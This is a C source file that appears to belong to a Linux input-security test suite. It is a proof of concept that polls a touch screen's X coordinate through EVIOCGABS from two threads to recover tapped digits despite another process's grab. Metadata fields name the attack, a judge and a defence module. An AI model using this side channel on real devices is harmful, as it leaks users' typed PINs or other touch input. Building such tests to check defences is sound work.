// SPDX-License-Identifier: Apache-2.0
/*
 * Asks a touch screen where it is touched (EVIOCGABS) as fast as it can: a grab keeps
 * events from others, not this state.
 *
 * attack: evdev_poll_abs
 * class: input
 * when: before
 * judge: keys
 * devices: qemu-xhci touch-screen
 * defence: module
 * why: the place is read with no lock whoever has the grab, so in a session the listed
 *	device has no axes at all
 */
#include <linux/input.h>
#include <pthread.h>
#include <sys/ioctl.h>

#include "digits.h"
#include "evdev.h"
#include "report.h"
#include "touch.h"

#define THREADS 2

struct poller {
	pthread_t thread;
	int fd, range;
	unsigned long polls;
	struct digits digits;
};

static void *poll_place(void *arg)
{
	struct poller *p = arg;
	struct input_absinfo now;
	int last = -1;

	for (; !attack_stopping(); p->polls++) {
		if (ioctl(p->fd, EVIOCGABS(ABS_X), &now) || now.value == last)
			continue;
		/* What it is at the start nobody has tapped. */
		if (last >= 0)
			digits_add(&p->digits, touch_digit(now.value, p->range));
		last = now.value;
	}
	return NULL;
}

int main(void)
{
	static struct poller pollers[THREADS];
	int fds[EVDEV_MAX], i;

	attack_init();
	if (!touch_open(ABS_X, fds))
		attack_failed("no touch screen can be opened");
	for (i = 0; i < THREADS; i++) {
		pollers[i].fd = fds[0];
		pollers[i].range = touch_range(fds[0], ABS_X);
		if (pthread_create(&pollers[i].thread, NULL, poll_place, &pollers[i]))
			attack_failed("no thread can be started");
	}
	attack_ready();
	for (i = 0; i < THREADS; i++) {
		pthread_join(pollers[i].thread, NULL);
		attack_note("thread %d asked %lu times", i, pollers[i].polls);
		attack_digits(pollers[i].digits.text);
	}
	attack_failed("these are all the digits it saw");
}
